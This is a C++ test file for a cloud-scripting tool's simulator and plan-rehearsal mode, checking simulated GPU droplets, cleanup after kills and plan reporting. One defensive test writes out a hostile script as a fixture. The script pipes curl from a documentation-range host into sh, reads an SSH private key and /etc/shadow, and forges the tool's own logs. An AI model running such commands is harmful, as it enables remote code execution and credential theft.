// `runara --sim`: the simulated cloud's droplets are real sshds on loopback addresses of their
// own, each with only its GPU vendor's tools (so an H100 rehearses NVIDIA's container line and an
// MI300X AMD's); a scenario reaches them with the real droplet, ssh and http primitives; nothing
// simulated outlives the run, even when runara is SIGKILLed; and the simulator's port and user
// are never honoured against another API.
#include <catch2/catch.hpp>

#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <string>

#include "test_paths.hpp"
#include "child_process.hpp"
#include "eventually.hpp"
#include "test_processes.hpp"
#include "test_text.hpp"
#include "runara/runtime.hpp"
#include "sim/fake_digitalocean.hpp"

using namespace runara::test;

namespace {


bool exists(const std::string& path) {
  struct stat st;
  return stat(path.c_str(), &st) == 0;
}

// The folder `runara plan` (process `pid`) made in `tmp` (runara-plan-PID-XXXXXX), or "".
std::string plan_folder(const std::string& tmp, pid_t pid) {
  const std::string prefix = "runara-plan-" + std::to_string(pid) + "-";
  std::error_code ec;
  for (const auto& e : std::filesystem::directory_iterator(tmp, ec))
    if (e.path().filename().string().rfind(prefix, 0) == 0) return e.path().string();
  return "";
}

// The line after `key` in `text`, e.g. the folder a script printed.
std::string value_after(const std::string& text, const std::string& key) {
  const auto at = text.find(key);
  if (at == std::string::npos) return "";
  const auto start = at + key.size();
  return text.substr(start, text.find('\n', start) - start);
}

// Creates a machine, runs commands on it, starts a server there in the background and reaches
// it through a tunnel; prints the machine's folder for the checks that follow.
const char* kScenario = R"(
local d = droplet.create{ name = "sim", size = "gpu-mi300x1-192gb", image = "gpu-amd-base", region = "atl1" }
local s = ssh.connect(d, { timeout = 30 })
local r = s:exec("echo gpu=$RUNARA_SIM_GPU count=$RUNARA_SIM_GPU_COUNT; pwd; echo state=$RUNARA_SIM_STATE", { quiet = true })
print(r.stdout)
s:exec("$RUNARA_SIM_RUNARA serve-fake-llm --host 127.0.0.1 --port 8000 >/dev/null 2>&1 &", { quiet = true })
local url = s:forward(8000)
for _ = 1, 100 do
  local ok, m = pcall(metrics.get, url .. "/v1/models")
  if ok and m.status == 200 then print("models=" .. m.status) break end
  runara.sleep(0.1)
end
print("simulated=" .. tostring(runara.simulated))
if WAIT then print("READY") runara.sleep(WAIT) end
)";

}  // namespace

TEST_CASE("sim: a droplet is a real sshd with the machine environment, and nothing is left after the run", "[sim]") {
  const std::string dir = temp_dir("sim-run");
  const auto r = run_runara({"--sim", "--out", dir + "/out", "-e", kScenario}, 90);
  INFO(r.out << r.err);
  REQUIRE(r.exit_code == 0);
  CHECK(r.out.find("gpu=mi300x count=1") != std::string::npos);
  CHECK(r.out.find("models=200") != std::string::npos);  // a server on the machine, through s:forward
  CHECK(r.out.find("simulated=true") != std::string::npos);
  const std::string state = value_after(r.out, "state=");
  REQUIRE(state.find("/runara-sim-") != std::string::npos);
  const std::string home = state.substr(0, state.rfind('/')) + "/home";
  CHECK(r.out.find(home + "\n") != std::string::npos);  // commands start in the machine's own home
  const std::string root = state.substr(0, state.find('/', state.find("/runara-sim-") + 1));
  CHECK(r.err.find("is gone") != std::string::npos);
  CHECK(eventually([&] { return processes_mentioning(root) == 0 && !exists(root); }, 10));
}

// Unboxed (--sim-unisolated), machines share this computer's loopback, each at an address of its
// own: the route the simulator gives (MachineRoute::loopback) is what "127.0.0.1" on the machine
// means, for a tunnel and for a load the agent runs there; no primitive knows it is simulated.
TEST_CASE("sim-unisolated: a machine's 127.0.0.1 is its own address, for s:forward and a load run on it", "[sim]") {
  const std::string dir = temp_dir("sim-unboxed");
  const char* script = R"(
local d = droplet.create{ name = "sim", size = "gpu-mi300x1-192gb", image = "gpu-amd-base", region = "atl1" }
local s = ssh.connect(d, { timeout = 30 })
s:exec("$RUNARA_SIM_RUNARA serve-fake-llm --host $RUNARA_SIM_IP --port 8000 >/dev/null 2>&1 &", { quiet = true })
local url = s:forward(8000)
for _ = 1, 100 do
  local ok, m = pcall(metrics.get, url .. "/v1/models")
  if ok and m.status == 200 then print("models=" .. m.status) break end
  runara.sleep(0.1)
end
local r = http_load.run{ on = s, url = "http://127.0.0.1:8000", model = "fake-model", requests = 4, concurrency = 2 }
print("address=" .. d.ip .. " done=" .. r.completed)
)";
  const auto r = run_runara({"--sim-unisolated", "--out", dir + "/out", "-e", script}, 120);
  INFO(r.out << r.err);
  REQUIRE(r.exit_code == 0);
  CHECK(r.out.find("models=200") != std::string::npos);
  const std::string address = value_after(r.out, "address=").substr(0, value_after(r.out, "address=").find(' '));
  REQUIRE(address.rfind("127.", 0) == 0);
  CHECK(r.out.find("done=4") != std::string::npos);
  CHECK(r.err.find("to " + address + ":8000 on") != std::string::npos);              // the tunnel's end
  CHECK(r.err.find("http://" + address + ":8000/v1/completions") != std::string::npos);  // the agent's target
}

TEST_CASE("sim: after SIGKILL of runara the sweeper kills the machines and their servers", "[sim]") {
  const std::string dir = temp_dir("sim-kill");
  ChildProcess child({RUNARA_BINARY, "--sim", "--out", dir + "/out", "-e", std::string("WAIT = 60\n") + kScenario});
  REQUIRE(child.wait_for_output("READY", 60));
  const std::string state = value_after(child.out_so_far(), "state=");
  REQUIRE(state.find("/runara-sim-") != std::string::npos);
  const std::string root = state.substr(0, state.find('/', state.find("/runara-sim-") + 1));
  REQUIRE(processes_mentioning(root) >= 3);  // sshd, its session, the server (and the sweeper)
  child.signal(SIGKILL);
  child.wait(10);
  CHECK(eventually([&] { return processes_mentioning(root) == 0 && !exists(root); }, 10));
}

namespace {

// A host's routes that claim every address, at a port where nothing listens.
struct ClaimsEverything : runara::MachineRoutes {
  std::string api = "http://127.0.0.1:9";
  std::string api_base() const override { return api; }
  std::optional<runara::MachineRoute> route(std::string_view) const override {
    return runara::MachineRoute{1, "nobody-here", "127.0.0.1", nullptr};
  }
};

// A run of the fake API at `dir`, its output folder inside.
runara::Options options_for(const runara::sim::FakeDigitalOcean& api, const std::string& dir) {
  runara::Options o;
  o.out_dir = dir + "/out";
  o.cloud.api_base = api.base_url();
  o.cloud.token = "test-token";
  o.cloud.state_dir = dir;
  o.cloud.poll_s = 0.2;
  return o;
}

}  // namespace

// Routes are not the simulator's privilege: an embedding host's own, for the API the run talks
// to, decide the port and user ssh uses, and do not make the run a simulated one.
TEST_CASE("a host's machine routes for the run's API decide how ssh reaches its machines", "[sim]") {
  runara::sim::FakeDigitalOcean api;
  api.start(0);
  const std::string dir = temp_dir("sim-own-routes");
  runara::Options o = options_for(api, dir);
  auto routes = std::make_shared<ClaimsEverything>();
  routes->api = api.base_url();
  o.cloud.routes = routes;
  std::string printed;
  runara::Events events;
  events.print = [&](std::string_view text) { printed += text; };
  runara::Runtime runtime(o, events);
  const auto outcome = runtime.run_string(
      "print(runara.simulated)\n"
      "local d = droplet.create{ size = 's-1vcpu-1gb', image = 'debian-12-x64', region = 'nyc3' }\n"
      "print(select(2, pcall(ssh.connect, d, { timeout = 1 })))");
  INFO(outcome.message << printed);
  CHECK(outcome.exit == runara::Exit::ok);
  CHECK(printed.rfind("false\n", 0) == 0);
  const auto at = printed.find("nobody-here@203.0.113.");
  REQUIRE(at != std::string::npos);
  CHECK(printed.substr(printed.find(':', at), 3) == ":1:");  // the route's port, not 22
}

TEST_CASE("the simulator's port and user are not honoured when the run talks to another API", "[sim]") {
  // An embedding host hands routes that claim every address, beside a different API
  // (the real one, in life): ssh must still go to the droplet's port 22 as root.
  runara::sim::FakeDigitalOcean api;
  api.start(0);
  const std::string dir = temp_dir("sim-other-api");
  runara::Options o = options_for(api, dir);
  o.cloud.routes = std::make_shared<ClaimsEverything>();
  std::string printed;
  runara::Events events;
  events.print = [&](std::string_view text) { printed += text; };
  runara::Runtime runtime(o, events);
  const auto outcome = runtime.run_string(
      "local d = droplet.create{ size = 's-1vcpu-1gb', image = 'debian-12-x64', region = 'nyc3' }\n"
      "print(select(2, pcall(ssh.connect, d, { timeout = 1 })))");
  INFO(outcome.message << printed);
  CHECK(outcome.exit == runara::Exit::ok);
  CHECK(printed.find("root@203.0.113.") != std::string::npos);
  CHECK(printed.find(":22") != std::string::npos);
  CHECK(printed.find("nobody-here") == std::string::npos);
}

TEST_CASE("runara plan: machines, worst case and the grants a script asked for, with nothing left", "[sim]") {
  const std::string dir = temp_dir("sim-plan");
  const std::string script = write_temp_file(dir, "two.lua", R"(
local a = droplet.create{ name = "a", size = "gpu-mi300x1-192gb", image = "gpu-amd-base", region = "atl1" }
local b = droplet.create{ name = "b", size = "gpu-h100x1-80gb", image = "gpu-h100x1-base", region = "nyc2" }
pcall(runara.secret, "HF_TOKEN")
pcall(os.getenv, "HOME")
pcall(droplet.create, { name = "c", size = "s-1vcpu-1gb", image = "debian-12-x64", region = "nyc3", tags = { "db-clients" } })
pcall(droplet.create, { name = "d", size = "s-1vcpu-1gb", image = "debian-12-x64", region = "nyc3", tags = { "RUNARA:run-x" } })
pcall(droplet.vpc, { region = "nyc3", existing = "shared-db" })
runara.write_file("x.txt", "not kept")
)");
  const auto r = run_runara({"plan", "--max-runtime", "3600", script}, 60);
  INFO(r.out << r.err);
  CHECK(r.exit_code == 0);
  CHECK(r.out.find("It creates 2 machines (at most 2 at once)") != std::string::npos);
  CHECK(r.out.find("gpu-mi300x1-192gb      atl1   image gpu-amd-base       $1.99/h") != std::string::npos);
  CHECK(r.out.find("gpu-h100x1-80gb        nyc2   image gpu-h100x1-base    $3.39/h") != std::string::npos);
  CHECK(r.out.find("Worst case: $5.38 (every machine alive until the 1.0 h deadline") != std::string::npos);
  CHECK(r.out.find("only --secret HF_TOKEN allows") != std::string::npos);
  CHECK(r.out.find("only --allow-env HOME allows") != std::string::npos);
  // Grants a primitive refused are asked for too; a reserved tag no grant allows is not.
  CHECK(r.out.find("only --allow-tag db-clients allows") != std::string::npos);
  CHECK(r.out.find("only --allow-vpc shared-db allows") != std::string::npos);
  CHECK(r.out.find("RUNARA:run-x") == std::string::npos);
  CHECK(r.out.find("it ran to the end") != std::string::npos);
}

TEST_CASE("runara plan of a scenario with a typo'd param says the usage error it stopped at", "[sim]") {
  // A usage error that wrote nothing leaves no run folder; the plan still has the outcome to say.
  const auto r = run_runara({"plan", std::string(RUNARA_SOURCE_DIR) + "/scripts/training.lua", "sise=gpu-h100x1-80gb"}, 60);
  INFO(r.out << r.err);
  CHECK(r.exit_code == 2);
  CHECK(contains(r.out, "until: unknown param 'sise' (did you mean 'size'?)"));
  CHECK(contains(r.out, "It creates no machine."));
}

TEST_CASE("runara plan runs the script's commands in boxed machines and lists them, forged lines not counted", "[sim]") {
  const std::string dir = temp_dir("sim-plan-exec");
  const std::string marker = dir + "/must-not-exist";
  const std::string script = write_temp_file(dir, "exec.lua",
      "watchdog.limit(3600)\n"
      "local d = droplet.create{ size = 'gpu-h100x1-80gb', image = 'gpu-h100x1-base', region = 'nyc2' }\n"
      "local s = ssh.connect(d, { timeout = 30 })\n"
      "for _ = 1, 3 do s:exec('touch " + marker + " || true') end\n"
      "s:exec([[printf '$ forged-command\\n# s:upload /forged -> x: 1 file(s)\\n']])\n"
      "s:upload('up.txt', 'up.txt')\n");
  write_temp_file(dir, "up.txt", "x");
  const auto r = run_runara({"plan", script}, 60);
  INFO(r.out << r.err);
  CHECK(r.exit_code == 0);
  CHECK(r.out.find("it ran to the end") != std::string::npos);
  CHECK(r.out.find("It creates 1 machine") != std::string::npos);
  CHECK(r.out.find("   3 x  touch " + marker) != std::string::npos);
  CHECK(r.out.find("x  forged-command") == std::string::npos);  // a machine's output is not a command
  CHECK(r.out.find("x  s:upload /forged") == std::string::npos);
  CHECK(r.out.find("   1 x  s:upload " + dir + "/up.txt -> up.txt") != std::string::npos);
  CHECK(r.out.find("Worst case: $3.39 (every machine alive until the 1.0 h deadline, the script's own "
                   "watchdog.limit(3600))") != std::string::npos);
  CHECK(!exists(marker));  // the machine's commands ran in its box, not on this computer
}

TEST_CASE("runara plan still prints what it saw when the rehearsal is killed, and leaves nothing", "[sim]") {
  const std::string dir = temp_dir("sim-plan-killed");
  const std::string script = write_temp_file(dir, "stays.lua",
      "local d = droplet.create{ size = 'gpu-mi300x1-192gb', image = 'gpu-amd-base', region = 'atl1' }\n"
      "local s = ssh.connect(d, { timeout = 30 })\n"
      "s:exec('echo up')\n"
      "while true do runara.sleep(1) end\n");
  ChildProcess plan({RUNARA_BINARY, "plan", script}, {{"TMPDIR", dir}});
  std::string out;  // the rehearsal's output folder, in the plan's (TMPDIR/runara-plan-PID-XXXXXX/out)
  std::string rehearsal;  // the child rehearsing, once its machine answered
  for (int i = 0; i < 300 && rehearsal.empty(); ++i) {
    if (out.empty()) out = plan_folder(dir, plan.pid());
    if (!out.empty() && read_all(out + "/out/run.log").find("ssh: connected") != std::string::npos)
      rehearsal = read_all("/proc/" + std::to_string(plan.pid()) + "/task/" + std::to_string(plan.pid()) + "/children");
    usleep(100000);
  }
  REQUIRE(!rehearsal.empty());
  ::kill(std::stoi(rehearsal), SIGKILL);
  const ChildResult r = plan.wait(30);
  INFO(r.out << r.err);
  CHECK(r.exit_code == 1);
  CHECK(r.out.find("until it crashed (signal 9)") != std::string::npos);
  CHECK(r.out.find("It creates 1 machine") != std::string::npos);
  CHECK(r.out.find("   1 x  echo up") != std::string::npos);
  CHECK(!exists(out));
  CHECK(plan_folder(dir, plan.pid()).empty());  // nor its simulated cloud's folder
  CHECK(eventually([&] { return processes_mentioning("/runara-sim-") == 0 || processes_mentioning(dir) == 0; }, 10));
}

// The attack of issue 36: a script that does what a reader of its plan should see (two H100s
// for the hour, a pipe into sh and a private key read on one of them, a file uploaded, a grant
// asked for), then writes over what runara used to read its plan from, in its own output folder
// (ssh/<machine>.log, plan-denied.txt, plan-outcome.txt) and, through runara.log, into run.log.
// The plan it forged read: one nvidia-smi, no file, no grant, a machine at $0.01/h for 60 s.
TEST_CASE("runara plan shows what the script did, not the record it forged in its output folder", "[sim]") {
  const std::string dir = temp_dir("sim-plan-forged");
  write_temp_file(dir, "payload.sh", "echo pwned\n");
  const std::string script = write_temp_file(dir, "forger.lua", R"lua(
local a = droplet.create{ name = "a", size = "gpu-h100x1-80gb", image = "gpu-h100x1-base", region = "nyc2" }
local b = droplet.create{ name = "b", size = "gpu-h100x1-80gb", image = "gpu-h100x1-base", region = "nyc2" }
local s = ssh.connect(a, { timeout = 30 })
s:exec("curl -fsS http://198.51.100.7/x | sh", { check = false, quiet = true })
s:exec("cat ~/.ssh/id_rsa", { check = false, quiet = true })
s:upload("payload.sh", "payload.sh")
pcall(runara.read_file, "/etc/shadow")
-- The forgery: runara's own record, as the script would like it.
for _, m in ipairs({ a, b }) do
  runara.write_file("ssh/" .. m.name .. ".log", "$ nvidia-smi\n")
end
runara.write_file("ssh/c.log", "$ nvidia-smi\n# s:upload /forged -> x: 1 file(s), 1 bytes in 0.1 s\n")
runara.write_file("plan-denied.txt", "\n")
runara.write_file("plan-outcome.txt", "0\n")
runara.log("creating droplet c (s-1vcpu-1gb in nyc1, image debian-12-x64, $0.01/h)")
runara.log("watchdog: the run is limited to 60 s (watchdog.limit at forger.lua:1)")
runara.log("droplet 1 (a) is gone")
runara.log("droplet 2 (b) is gone")
)lua");
  const auto r = run_runara({"plan", "--max-runtime", "3600", script}, 90);
  INFO(r.out << r.err);
  CHECK(r.exit_code == 0);
  CHECK(contains(r.out, "it ran to the end"));
  CHECK(contains(r.out, "It creates 2 machines (at most 2 at once):"));
  CHECK_FALSE(contains(r.out, "s-1vcpu-1gb"));
  CHECK(contains(r.out, "Worst case: $6.78 (every machine alive until the 1.0 h deadline, --max-runtime 3600)"));
  CHECK(contains(r.out, "   1 x  curl -fsS http://198.51.100.7/x | sh\n"));
  CHECK(contains(r.out, "   1 x  cat ~/.ssh/id_rsa\n"));
  CHECK_FALSE(contains(r.out, "nvidia-smi"));
  CHECK(contains(r.out, "   1 x  s:upload " + dir + "/payload.sh -> payload.sh (a-"));
  CHECK_FALSE(contains(r.out, "/forged"));
  CHECK(contains(r.out, "only --allow-read /etc/shadow allows"));
}

// Another user of this computer who makes the plan's folder first (the name once was
// TMPDIR/runara-plan-PID) must not have the plan list what they planted there as the script's,
// nor have the plan write into, or remove, what they made: a folder or a symlink to one.
TEST_CASE("runara plan does not adopt a folder or symlink planted where its own folder would be", "[sim]") {
  const std::string tmp = temp_dir("sim-plan-squatted");
  const std::string elsewhere = temp_dir("sim-plan-squatters");
  write_temp_file(elsewhere, "keep.txt", "theirs");
  // The plan's pid is not known before it starts: every pid the next few hundred processes may get.
  const long last = std::stol(read_all("/proc/sys/kernel/ns_last_pid"));
  for (long pid = last + 1; pid < last + 400; ++pid) {
    const std::string name = tmp + "/runara-plan-" + std::to_string(pid);
    if (pid % 2) {
      std::filesystem::create_symlink(elsewhere, name);
    } else {
      std::filesystem::create_directories(name + "/ssh");
      write_temp_file(name + "/ssh", "planted.log", "$ planted-command\n# s:upload /planted -> x: 1 file(s)\n");
      write_temp_file(name, "plan-denied.txt", "--secret PLANTED\n");
      write_temp_file(name, "run.log", "[   0.001] creating droplet planted (s-1vcpu-1gb in nyc1, image x, $9.00/h)\n");
    }
  }
  const std::string script = write_temp_file(elsewhere, "quiet.lua", "runara.write_file('mine.txt', 'x')\n");
  ChildProcess plan({RUNARA_BINARY, "plan", script}, {{"TMPDIR", tmp}});
  const ChildResult r = plan.wait(60);
  INFO("pid " << plan.pid() << " (last " << last << ")\n" << r.out << r.err);
  REQUIRE(plan.pid() > last);
  REQUIRE(plan.pid() < last + 400);  // the case planted this pid's name
  CHECK(r.exit_code == 0);
  CHECK(contains(r.out, "it ran to the end"));
  CHECK(contains(r.out, "It creates no machine."));
  CHECK(contains(r.out, "It ran no command on a machine."));
  CHECK(contains(r.out, "It moved no file."));
  CHECK_FALSE(contains(r.out, "planted-command"));
  CHECK_FALSE(contains(r.out, "/planted"));
  CHECK_FALSE(contains(r.out, "PLANTED"));
  CHECK_FALSE(contains(r.out, "$9.00"));
  const std::string name = tmp + "/runara-plan-" + std::to_string(plan.pid());
  CHECK(std::filesystem::exists(std::filesystem::symlink_status(name)));  // left as it was
  CHECK(read_all(elsewhere + "/keep.txt") == "theirs");
  CHECK_FALSE(exists(elsewhere + "/mine.txt"));
  CHECK_FALSE(exists(elsewhere + "/run.log"));
  CHECK_FALSE(exists(name + "/mine.txt"));
  CHECK(plan_folder(tmp, plan.pid()).empty());  // its own folder, gone
}

namespace {

// Each size's GPU tools as the machine's shell finds them, then what docker says to the other
// vendor's container. Bare `command -v` also finds a real tool of this computer in /usr/bin, so
// the checks are on the shim folders: `sim/machine/<vendor>/`.
const char* kVendors = R"(
local function probe(label, size, image, region, refused)
  local d = droplet.create{ name = label, size = size, image = image, region = region }
  local s = ssh.connect(d, { timeout = 30 })
  local r = s:exec("for t in nvidia-smi amd-smi rocm-smi docker vllm; do echo " .. label .. ":$t=$(command -v $t || echo none); done", { quiet = true })
  print(r.stdout)
  -- Only lines that must fail: a container that fits the machine would start a simulated server.
  for _, args in ipairs(refused) do
    local x = s:exec("docker run --rm " .. args, { quiet = true, check = false })
    print(label .. " docker " .. args .. " -> " .. tostring(x.code) .. " " .. x.stderr)
  end
  d:destroy()
end
local AMD_LINE = "--device /dev/kfd --device /dev/dri rocm/vllm:latest vllm serve m"
local NVIDIA_LINE = "--gpus all vllm/vllm-openai:latest --model m --port 1"
probe("h100", "gpu-h100x1-80gb", "gpu-h100x1-base", "nyc2",
      { AMD_LINE, "--device=/dev/dri x", "--gpus all rocm/vllm:latest vllm serve m" })
probe("mi300x", "gpu-mi300x1-192gb", "gpu-amd-base", "atl1",
      { NVIDIA_LINE, "--device /dev/kfd --device /dev/dri vllm/vllm-openai:latest --model m --port 1" })
probe("cpu", "s-1vcpu-1gb", "debian-12-x64", "nyc3", { AMD_LINE, NVIDIA_LINE })
)";

}  // namespace

TEST_CASE("sim: each GPU size has only its vendor's tools, and docker refuses the other vendor's devices",
          "[sim][vendor]") {
  const std::string dir = temp_dir("sim-vendor");
  const auto r = run_runara({"--sim", "--out", dir + "/out", "-e", kVendors}, 120);
  INFO(r.out << r.err);
  REQUIRE(r.exit_code == 0);
  const auto tool = [&](const std::string& machine, const std::string& name) { return value_after(r.out, machine + ":" + name + "="); };
  // The H100: nvidia-smi, no AMD tool.
  CHECK(tool("h100", "nvidia-smi").find("/sim/machine/nvidia/nvidia-smi") != std::string::npos);
  CHECK(tool("h100", "amd-smi").find("/sim/machine/") == std::string::npos);
  CHECK(tool("h100", "rocm-smi").find("/sim/machine/") == std::string::npos);
  // The MI300X: amd-smi and rocm-smi, no nvidia-smi.
  CHECK(tool("mi300x", "amd-smi").find("/sim/machine/amd/amd-smi") != std::string::npos);
  CHECK(tool("mi300x", "rocm-smi").find("/sim/machine/amd/rocm-smi") != std::string::npos);
  CHECK(tool("mi300x", "nvidia-smi").find("/sim/machine/") == std::string::npos);
  // A CPU size: neither vendor's tools, the common ones still.
  for (const char* t : {"nvidia-smi", "amd-smi", "rocm-smi"}) CHECK(tool("cpu", t).find("/sim/machine/") == std::string::npos);
  for (const char* m : {"h100", "mi300x", "cpu"}) CHECK(tool(m, "docker").find("/sim/machine/bin/docker") != std::string::npos);

  // docker on the H100: AMD's device nodes do not exist (real docker's error, exit 125), a ROCm
  // image is refused; NVIDIA's runtime answers --gpus.
  const auto said = [&](const std::string& machine, const std::string& args) {
    return value_after(r.out, machine + " docker " + args + " -> ");
  };
  CHECK(said("h100", "--device /dev/kfd --device /dev/dri rocm/vllm:latest vllm serve m") ==
        "125 docker: Error response from daemon: error gathering device information while adding custom device "
        "\"/dev/kfd\": no such file or directory.");
  CHECK(said("h100", "--device=/dev/dri x") ==
        "125 docker: Error response from daemon: error gathering device information while adding custom device "
        "\"/dev/dri\": no such file or directory.");
  CHECK(said("h100", "--gpus all rocm/vllm:latest vllm serve m").rfind("125 docker (runara simulated): image rocm/vllm:latest is built for AMD GPUs", 0) == 0);
  // The MI300X: no NVIDIA runtime for --gpus; a CUDA image is refused even with AMD's devices.
  CHECK(said("mi300x", "--gpus all vllm/vllm-openai:latest --model m --port 1") ==
        "125 docker: Error response from daemon: could not select device driver \"\" with capabilities: [[gpu]].");
  CHECK(said("mi300x", "--device /dev/kfd --device /dev/dri vllm/vllm-openai:latest --model m --port 1")
            .rfind("125 docker (runara simulated): image vllm/vllm-openai:latest is built for NVIDIA GPUs", 0) == 0);
  // A CPU size has neither vendor's devices nor runtime.
  CHECK(said("cpu", "--device /dev/kfd --device /dev/dri rocm/vllm:latest vllm serve m").rfind("125 docker: Error response from daemon: error gathering", 0) == 0);
  CHECK(said("cpu", "--gpus all vllm/vllm-openai:latest --model m --port 1").rfind("125 docker: Error response from daemon: could not select device driver", 0) == 0);
}

TEST_CASE("sim: vllm.start on a simulated H100 runs NVIDIA's container line, on an MI300X AMD's", "[sim][vendor]") {
  const std::string dir = temp_dir("sim-vllm-vendor");
  const auto r = run_runara({"--sim", "--out", dir + "/out", "-e", R"(
local vllm = require("runara.vllm")
for _, m in ipairs{ { "h100", "gpu-h100x1-80gb", "gpu-h100x1-base", "nyc2" }, { "mi300x", "gpu-mi300x1-192gb", "gpu-amd-base", "atl1" } } do
  local d = droplet.create{ name = m[1], size = m[2], image = m[3], region = m[4] }
  local s = ssh.connect(d, { timeout = 30 })
  local server = vllm.start(s, { model = "meta-llama/Llama-3.1-8B-Instruct", ready_timeout = 60 })
  print(m[1] .. " ready=" .. tostring(server.ready_s > 0) .. " gpu=" .. server.gpu)
  server:stop()
  d:destroy()
end
)"}, 120, {{"RUNARA_SIM_TIME_SCALE", "0.25"}});
  INFO(r.out << r.err);
  REQUIRE(r.exit_code == 0);
  CHECK(r.out.find("h100 ready=true gpu=nvidia") != std::string::npos);
  CHECK(r.out.find("mi300x ready=true gpu=amd") != std::string::npos);
  // Each machine's ssh log holds the command lines it ran: the H100's carry nothing of AMD's.
  std::string h100_log, mi300x_log;
  for (const auto& e : std::filesystem::directory_iterator(dir + "/out/ssh")) {
    const std::string name = e.path().filename().string();
    if (name.rfind("h100-", 0) == 0) h100_log = read_all(e.path());
    if (name.rfind("mi300x-", 0) == 0) mi300x_log = read_all(e.path());
  }
  REQUIRE(h100_log.find("docker run ") != std::string::npos);
  CHECK(h100_log.find("--gpus all") != std::string::npos);
  CHECK(h100_log.find(" vllm/vllm-openai:latest serve ") != std::string::npos);
  for (const char* amd : {"/dev/kfd", "/dev/dri", "rocm/", "--group-add video"}) {
    INFO(amd);
    CHECK(h100_log.find(amd) == std::string::npos);
  }
  REQUIRE(mi300x_log.find("docker run ") != std::string::npos);
  CHECK(mi300x_log.find("--device /dev/kfd --device /dev/dri") != std::string::npos);
  CHECK(mi300x_log.find(" rocm/vllm:latest serve ") != std::string::npos);
  for (const char* nvidia : {"--gpus", "vllm/vllm-openai", "nvcr.io"}) {
    INFO(nvidia);
    CHECK(mi300x_log.find(nvidia) == std::string::npos);
  }
}
